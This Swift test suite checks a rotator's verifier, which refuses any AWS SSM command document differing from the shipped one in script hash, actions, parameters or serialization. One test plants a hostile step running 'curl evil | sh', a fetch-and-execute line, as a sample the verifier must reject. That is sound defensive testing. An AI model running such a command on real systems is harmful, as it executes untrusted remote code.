import AWS
import RotatorJSON
import RotatorTestSupport
import Testing
@testable import Rotation

/// SSM documents by name, for GetDocument; `error` answers every call instead.
final class DocumentStore: SSMDocumentAPI {
    var documents: [String: String]
    var type = "Command"
    var error: AWSError?

    init(_ documents: [String: String]) { self.documents = documents }

    func getDocument(name: String) throws(AWSError) -> SSMDocument? {
        if let error { throw error }
        return documents[name].map { SSMDocument(name: name, documentVersion: "1", documentType: type, status: "Active", content: $0) }
    }
}

/// A document is the one this rotator ships when what the agent runs is the same: its steps'
/// actions and scripts (by digest) and its parameters, whatever the JSON's spelling.
@Suite struct ShippedDocumentTests {
    /// TestDocument's default document shipped for postgres only (mysql ships another).
    // The default document is readable: were it not, every test of this suite would fail here.
    static let postgresOnly: [Engine: ShippedDocument] = [.postgres: try! ShippedDocument.of(content: TestDocument.content())]

    func refusal(_ content: String, type: String = "Command", engine: Engine = .postgres) -> DocumentRefusal? {
        let store = DocumentStore(["Doc": content])
        store.type = type
        do {
            _ = try DocumentVerifier(shipped: ShippedDocumentTests.postgresOnly).verified("Doc", engine: engine, ssm: store)
            return nil
        } catch {
            return error
        }
    }

    @Test func theScriptIsHashedAsTheAgentJoinsIt() throws {
        #expect(ShippedDocument.scriptText(.array([.string("a"), .string("b")])) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.string("a\nb")) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.array([.string("a"), .array([.string("b")])])) == "a\nb\n")
        #expect(ShippedDocument.scriptText(.array([.string("a"), .integer(1)])) == nil)
        let document = try ShippedDocument.of(content: TestDocument.content(script: ["a", "b"]))
        // python3 -c 'import hashlib; print(hashlib.sha256(b"a\nb\n").hexdigest())'
        #expect(document.steps == [.init(action: "aws:runShellScript",
                                         scriptSHA256: "911169ddaaf146aff539f58c26c489af3b892dff0fe283c1c264c65ae5aa59a2")])
        #expect(document.parameters["Action"] == .init(type: "String", allowedPattern: "^(set|verify)$", interpolationType: "ENV_VAR"))
    }

    @Test func theShippedDocumentIsVerifiedWhateverItsSerialization() throws {
        #expect(refusal(TestDocument.content()) == nil)
        // Another spelling of the same document: keys reordered, other descriptions, escaped
        // characters, the script as one string: what runs is the same, so it is the same document.
        let respelled = #"""
            {"mainSteps":[{"inputs":{"runCommand":"#!\/bin\/sh\nset -eu\necho \"ROTATOR-RESULT action=$SSM_Action\"",
             "timeoutSeconds":"120"},"name":"other","action":"aws:runShellScript"}],"description":"changed",
             "parameters":{"VersionId":{"interpolationType":"ENV_VAR","allowedPattern":"^[A-Za-z0-9-]{32,64}$","type":"String"},
             "SecretId":{"allowedPattern":"^arn:[^ ]+$","type":"String","interpolationType":"ENV_VAR"},
             "Action":{"type":"String","allowedPattern":"^(set|verify)$","interpolationType":"ENV_VAR","description":"x"}},
             "schemaVersion":"2.2"}
            """#
        #expect(refusal(respelled) == nil)
    }

    @Test func aDocumentThatRunsAnythingElseIsRefused() throws {
        var script = TestDocument.script
        script[2] = script[2].replacingLast("n", with: "m")   // one byte
        let oneByte = try #require(refusal(TestDocument.content(script: script)))
        #expect(oneByte.isForeign)
        #expect(oneByte.description.hasPrefix("the document Doc is not the one this rotator ships for postgres (its script has sha256 "))
        #expect(oneByte.description.contains(ShippedDocumentTests.postgresOnly[.postgres]!.steps[0].scriptSHA256))
        #expect(oneByte.fix.hasPrefix("run the rotator built from the same commit as the stack, or redeploy"))
        #expect(refusal(TestDocument.content(script: TestDocument.script + [""]))?.isForeign == true)  // a trailing newline
        #expect(refusal(TestDocument.content(action: "aws:runPowerShellScript"))?.isForeign == true)
        #expect(refusal(TestDocument.content(inputs: [("workingDirectory", .string("/tmp/x"))]))?.isForeign == true)
        #expect(refusal(TestDocument.content(extraSteps: [TestDocument.json(script: ["curl evil | sh"])["mainSteps"]!.arrayValue![0]]))?
            .isForeign == true)
        var loose = TestDocument.patterns
        loose["SecretId"] = ".*"
        #expect(refusal(TestDocument.content(patterns: loose))?.description.contains("parameters differ from the shipped one's (SecretId)") == true)
        loose = TestDocument.patterns
        loose["Extra"] = ".*"
        #expect(refusal(TestDocument.content(patterns: loose))?.isForeign == true)
        #expect(refusal(#"{"schemaVersion":"2.2","mainSteps":[]}"#)?.isForeign == true)
        #expect(refusal("not json")?.isForeign == true)
        // A member named twice: the agent (last wins) and this check must not read different scripts.
        let twice = TestDocument.content().replacingLast("}", with: #","mainSteps":[]}"#)
        #expect(refusal(twice)?.isForeign == true)
        #expect(refusal(TestDocument.content(), type: "Automation")?.isForeign == true)
        #expect(refusal(TestDocument.content(), engine: .mysql)?.isForeign == true)
    }

    @Test func aMissingOrUnreadableDocumentIsNotCalledForeign() throws {
        let store = DocumentStore([:])
        #expect(throws: DocumentRefusal.self) { try DocumentVerifier(shipped: ShippedDocumentTests.postgresOnly).verified("Gone", engine: .postgres, ssm: store) }
        do {
            _ = try DocumentVerifier(shipped: ShippedDocumentTests.postgresOnly).verified("Gone", engine: .postgres, ssm: store)
        } catch {
            #expect(error.reason == .missing && !error.isForeign)
        }
        store.error = .service(operation: "GetDocument", AWSServiceError(code: "AccessDeniedException", message: "no", httpStatus: 400, requestId: nil))
        do {
            _ = try DocumentVerifier(shipped: ShippedDocumentTests.postgresOnly).verified("Doc", engine: .postgres, ssm: store)
            Issue.record("an unreadable document was verified")
        } catch {
            #expect(!error.isForeign && error.fix.contains("ssm:GetDocument"))
        }
    }

    @Test func theGeneratedTableHoldsEveryEngine() {
        #expect(Set(ShippedDocument.byEngine.keys) == Set(Engine.allCases))
        for (engine, document) in ShippedDocument.byEngine {
            #expect(document.steps.count == 1)
            #expect(document.steps[0].action == (engine == .sqlserver ? "aws:runPowerShellScript" : "aws:runShellScript"))
            #expect(document.steps[0].scriptSHA256.count == 64 && document.steps[0].scriptSHA256.allSatisfy { $0.isHexDigit && !$0.isUppercase })
            #expect(Set(document.parameters.keys) == ["Action", "SecretId", "VersionId", "Login"])
            #expect(document.parameters.values.allSatisfy { $0.interpolationType == "ENV_VAR" })
            // Login (the stack's pinned login) is checked by its allowedValues; the others by pattern.
            #expect(document.parameters.filter { $0.key != "Login" }.values.allSatisfy { $0.allowedPattern != nil })
        }
    }

    // Time of check to time of use: the proof carries the version it read, for the command to name.

    @Test func theVerifiedDocumentCarriesTheVersionGetDocumentAnswered() throws {
        let store = DocumentStore(["Doc": TestDocument.content()])
        let verified = try DocumentVerifier(shipped: ShippedDocumentTests.postgresOnly).verified("Doc", engine: .postgres, ssm: store)
        #expect(verified.name == "Doc")
        #expect(verified.version == "1")
    }
}
